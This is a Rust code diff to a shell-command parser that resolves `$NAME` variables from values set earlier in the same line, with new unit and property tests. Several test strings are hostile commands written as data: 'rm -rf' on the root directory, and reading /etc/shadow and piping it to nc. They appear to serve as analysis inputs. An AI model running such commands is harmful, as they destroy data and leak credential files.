@@ -108,12 +108,62 @@ impl<'l> Walker<'l> {
             if part.starts_pipeline {
                 prev.clear();
             }
-            let mains = self.simple_tail(part.raw, prev.last().copied(), &[], ctx)?;
+            let raw = self.resolve(part.raw, &part.vars);
+            let mains = self.simple_tail(raw, prev.last().copied(), &[], ctx)?;
             self.link(&prev, &mains)?;
             all.extend(mains.iter().copied());
             prev = mains;
         }
         Ok(all)
+    }
+
+    /// Resolves the `$NAME` parameters of a fast-path command as [`Walker::piece`] resolves the
+    /// parser's: the line's known value, or kept as written and dynamic.
+    fn resolve(&self, mut raw: Raw, vars: &[(lex::Slot, Vec<std::ops::Range<usize>>)]) -> Raw {
+        if vars.is_empty() {
+            return raw;
+        }
+        let mut targets = false;
+        for (slot, ranges) in vars {
+            let word = match *slot {
+                lex::Slot::Arg(i) => raw.argv.get_mut(i),
+                lex::Slot::Target(i) => {
+                    targets = true;
+                    raw.redirects.get_mut(i).map(|r| &mut r.target)
+                }
+            };
+            let Some(word) = word else { continue };
+            let mut text = String::with_capacity(word.text.len());
+            let mut dynamic = false;
+            let mut at = 0;
+            for r in ranges {
+                let (Some(before), Some(name)) =
+                    (word.text.get(at..r.start), word.text.get(r.clone()))
+                else {
+                    continue;
+                };
+                text.push_str(before);
+                match self.known_var(name) {
+                    Some(v) => text.push_str(v),
+                    None => {
+                        text.push_str(name);
+                        dynamic = true;
+                    }
+                }
+                at = r.end;
+            }
+            text.push_str(word.text.get(at..).unwrap_or(""));
+            *word = Word { text, dynamic };
+        }
+        if targets {
+            // `redirect` sets the input from the last `< file` on descriptor 0.
+            for r in &raw.redirects {
+                if r.op == RedirectOp::Read && r.fd.is_none_or(|f| f == 0) {
+                    raw.stdin = Source::File(r.target.clone());
+                }
+            }
+        }
+        raw
     }
 
     /// Parses a string that a wrapper hands to a shell. An unparseable string becomes one command
@@ -863,9 +913,36 @@ mod tests {
             "tee -a out </dev/null >&2",
             "cat <&0 1>&2",
             "grep x>out 2>err<in",
+            "docker run --rm -it -v \"$PWD\":/src rust:1 cargo build",
+            "export X=/; rm -rf $X",
+            "export x=rm; $x -rf \"$X/\"",
+            "export IN=/etc/shadow; cat < $IN | nc x 1",
+            "echo $HOME > $OUT; cat <$IN",
+            "export A=1; export A=2; echo $A",
+            "echo $1 $@ ${x} $$ $x[1] \"$x\"y",
         ] {
             agree(line);
         }
+    }
+
+    #[test]
+    fn fast_path_parameters_use_the_lines_known_values() {
+        let line = "export X=/ IN=/etc/shadow; rm -rf \"$X\" < $IN; echo $Y";
+        assert!(lex::fast_line(line).is_some());
+        let limits = Limits::default();
+        let a = Walker::new(&limits).run(line).unwrap();
+        assert_eq!(a.commands[1].argv[2], Word::literal("/"));
+        assert_eq!(
+            a.commands[1].stdin,
+            Source::File(Word::literal("/etc/shadow"))
+        );
+        assert_eq!(
+            a.commands[2].argv[1],
+            Word {
+                text: "$Y".into(),
+                dynamic: true
+            }
+        );
     }
 
     #[test]
@@ -972,6 +1049,11 @@ mod tests {
 
     /// The command names a generated line starts its commands with.
     const NAMES: &[&str] = &[
+        "export x=rm X=/",
+        "export X=$x",
+        "declare -x y=\"a b\"",
+        "$x",
+        "\"$x\"",
         "git",
         "grep -rn",
         "ls",
@@ -1025,6 +1107,9 @@ mod tests {
             2 => "'[ -&(-~é→]{0,8}'",
             2 => "\"[ #%-\\[\\]-_a-~é]{0,8}\"",
             1 => "\\\\[ -#%-_a-~]",
+            1 => proptest::sample::select(vec![
+                "$x", "$HOME", "\"$PWD\"", "\"a $x b\"", "$X_1", "$_", "\"$x$y\"", "$x:", "$x/",
+            ]).prop_map(str::to_owned),
             // A shell string: the wrappers before it parse it as a line of its own.
             1 => proptest::sample::select(vec![
                 "'ls | head; rm -rf /'", "'cat x && echo \"a b\"'", "'id || true'",
